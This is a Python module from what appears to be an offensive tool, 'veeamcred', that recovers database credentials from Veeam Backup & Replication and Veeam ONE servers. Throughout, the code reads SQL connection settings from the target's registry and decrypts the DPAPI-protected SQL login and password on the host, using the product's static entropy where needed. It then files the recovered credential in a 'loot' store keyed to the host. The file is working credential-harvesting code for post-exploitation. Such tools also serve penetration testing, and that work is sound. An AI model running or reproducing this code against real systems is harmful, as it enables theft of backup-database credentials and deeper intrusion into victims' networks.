"""
veeamcred.db.parameters
=======================

Recovery of the SQL Server connection parameters each product keeps in the registry. The database
login, where one is used, is itself DPAPI-protected and is unprotected on the target.
"""


import logging


from ..abc.registry import RegistryReader
from ..abc.remote import RemoteExecutor
from ..abc.sinks import LootSink
from ..exceptions import BadConfigError, NoTargetError, verify_type
from ..security.credentials import Credential, Service, MSSQL_PORT
from ..security.dpapi import HostProtectionService, TextEncoding, VEEAM_ONE_DB_ENTROPY
from ..strings import parse_int, strip_nulls
from ..targets import Product, VBR_REGISTRY_KEY


__author__ = 'Aaron Hosford'
__all__ = [
    'ConnectionParameters',
    'select_authentication',
    'read_vbr_parameters',
    'read_vom_parameters',
    'resolve_parameters',
    'store_login',
    'VOM_DB_CONFIG_KEY',
]


log = logging.getLogger(__name__)


VOM_DB_CONFIG_KEY = 'HKLM\\SOFTWARE\\Veeam\\Veeam ONE Monitor\\db_config'


class ConnectionParameters:
    """
    How to reach a product's database. Exactly one authentication mode is selected: integrated
    (Windows) authentication, or a SQL login.
    """

    def __init__(self, instance_path, database, login=None):
        verify_type(instance_path, str, non_empty=True)
        verify_type(database, str, non_empty=True)
        verify_type(login, Credential, allow_none=True)
        if login is not None and not login.is_complete:
            raise ValueError("A SQL login requires both a user and a password.")

        self._instance_path = instance_path
        self._database = database
        self._login = login

    @property
    def instance_path(self):
        """The SQL Server instance, in 'server\\instance' form."""
        return self._instance_path

    @property
    def database(self):
        return self._database

    @property
    def login(self):
        """The SQL login, or None for integrated authentication."""
        return self._login

    @property
    def integrated(self):
        return self._login is None

    def __eq__(self, other):
        if not isinstance(other, ConnectionParameters):
            return NotImplemented
        return (self._instance_path, self._database, self._login) == \
               (other._instance_path, other._database, other._login)

    def __hash__(self):
        return hash((self._instance_path, self._database, self._login))

    def __repr__(self):
        return '%s(%r, %r, %r)' % (type(self).__name__, self._instance_path, self._database, self._login)


def select_authentication(instance_path, database, integrated, user=None, password=None):
    """
    Apply the authentication decision rule. Integrated authentication wins when its flag is set;
    otherwise both a user and a password are required.

    :param instance_path: The SQL Server instance.
    :param database: The database name.
    :param integrated: Whether the product is configured for integrated authentication.
    :param user: The SQL login user, if any.
    :param password: The SQL login password, if any.
    :return: A ConnectionParameters instance.
    """
    if not instance_path or not database:
        raise NoTargetError("Failed to recover database parameters")

    if integrated:
        log.info("Database User: (Windows Integrated)")
        log.warning("The database uses Windows authentication; the session identity must have access "
                    "to the SQL server instance to proceed.")
        return ConnectionParameters(instance_path, database)

    if not user or not password:
        raise BadConfigError("Could not extract SQL login information")

    log.info("Database User: %s", user)
    return ConnectionParameters(instance_path, database, Credential(user, password))


def _read(registry, key, name):
    return strip_nulls(registry.get_value(key, name) or '').strip()


def _unprotect_login(executor, entropy, ciphertexts):
    service = HostProtectionService(executor, entropy, TextEncoding.UNICODE, batch=True)
    values = []
    for result in service.unprotect_many(ciphertexts):
        if result.is_error:
            log.error("Could not unprotect SQL login: %s", result.error)
        values.append(result.plaintext)
    return values


def read_vbr_parameters(executor, registry):
    """
    Read the Backup & Replication database configuration. The SQL password, if any, is protected
    with machine-scope DPAPI and no entropy.

    :param executor: A veeamcred.abc.remote.RemoteExecutor.
    :param registry: A veeamcred.abc.registry.RegistryReader.
    :return: A ConnectionParameters instance.
    """
    if not registry.key_exists(VBR_REGISTRY_KEY):
        raise NoTargetError("Could not read %s" % VBR_REGISTRY_KEY)

    server = _read(registry, VBR_REGISTRY_KEY, 'SqlServerName')
    instance = _read(registry, VBR_REGISTRY_KEY, 'SqlInstanceName')
    database = _read(registry, VBR_REGISTRY_KEY, 'SqlDatabaseName')
    if not server or not database:
        raise NoTargetError("Could not read SQL parameters from %s" % VBR_REGISTRY_KEY)
    instance_path = '%s\\%s' % (server, instance) if instance else server

    user = _read(registry, VBR_REGISTRY_KEY, 'SqlLogin')
    protected_password = _read(registry, VBR_REGISTRY_KEY, 'SqlSecuredPassword')
    password = None
    if user and protected_password:
        password, = _unprotect_login(executor, None, [protected_password])
    if user and not password:
        log.warning("SQL login %s has no recoverable password; falling back to integrated authentication.",
                    user)

    if user and password:
        return select_authentication(instance_path, database, False, user, password)
    return select_authentication(instance_path, database, True)


def read_vom_parameters(executor, registry):
    """
    Read the Veeam ONE database configuration. The SQL login and password are protected with
    machine-scope DPAPI and the static entropy compiled into the product.

    :param executor: A veeamcred.abc.remote.RemoteExecutor.
    :param registry: A veeamcred.abc.registry.RegistryReader.
    :return: A ConnectionParameters instance.
    """
    if not registry.key_exists(VOM_DB_CONFIG_KEY):
        raise NoTargetError("Could not read %s" % VOM_DB_CONFIG_KEY)

    instance_path = _read(registry, VOM_DB_CONFIG_KEY, 'host').rstrip('\\')
    database = _read(registry, VOM_DB_CONFIG_KEY, 'db_name')
    if not instance_path or not database:
        raise NoTargetError("Could not read SQL parameters from %s" % VOM_DB_CONFIG_KEY)

    sql_auth = parse_int(_read(registry, VOM_DB_CONFIG_KEY, 'db_auth_sql'), 0)
    user = password = None
    if sql_auth > 0:
        protected_user = _read(registry, VOM_DB_CONFIG_KEY, 'db_login')
        protected_password = _read(registry, VOM_DB_CONFIG_KEY, 'db_password')
        if protected_user and protected_password:
            user, password = _unprotect_login(executor, VEEAM_ONE_DB_ENTROPY, [protected_user, protected_password])

    return select_authentication(instance_path, database, sql_auth == 0, user, password)


def store_login(sink, parameters, hostname=None):
    """
    Store a recovered SQL login in the loot sink. Integrated authentication has nothing to store.

    :param sink: A veeamcred.abc.sinks.LootSink.
    :param parameters: The ConnectionParameters.
    :param hostname: The target host's address, if known.
    """
    verify_type(sink, LootSink)
    verify_type(parameters, ConnectionParameters)
    if parameters.integrated:
        return
    service = Service('mssql', MSSQL_PORT, address=hostname, realm=parameters.instance_path)
    sink.store_credential(parameters.login, service)


def resolve_parameters(executor, registry, product, sink=None, hostname=None):
    """
    Resolve a product's database connection parameters, storing any recovered SQL login.

    :param executor: A veeamcred.abc.remote.RemoteExecutor.
    :param registry: A veeamcred.abc.registry.RegistryReader.
    :param product: The veeamcred.targets.Product.
    :param sink: An optional veeamcred.abc.sinks.LootSink for the recovered login.
    :param hostname: The target host's address, if known.
    :return: A ConnectionParameters instance.
    """
    verify_type(executor, RemoteExecutor)
    verify_type(registry, RegistryReader)
    verify_type(product, Product)

    log.info("Get %s SQL Parameters ...", product.short_name)
    if product is Product.BACKUP_REPLICATION:
        parameters = read_vbr_parameters(executor, registry)
    else:
        parameters = read_vom_parameters(executor, registry)

    log.info("SQL Database Connection Configuration: instance %s, database %s",
             parameters.instance_path, parameters.database)
    if sink is not None:
        store_login(sink, parameters, hostname)
    return parameters
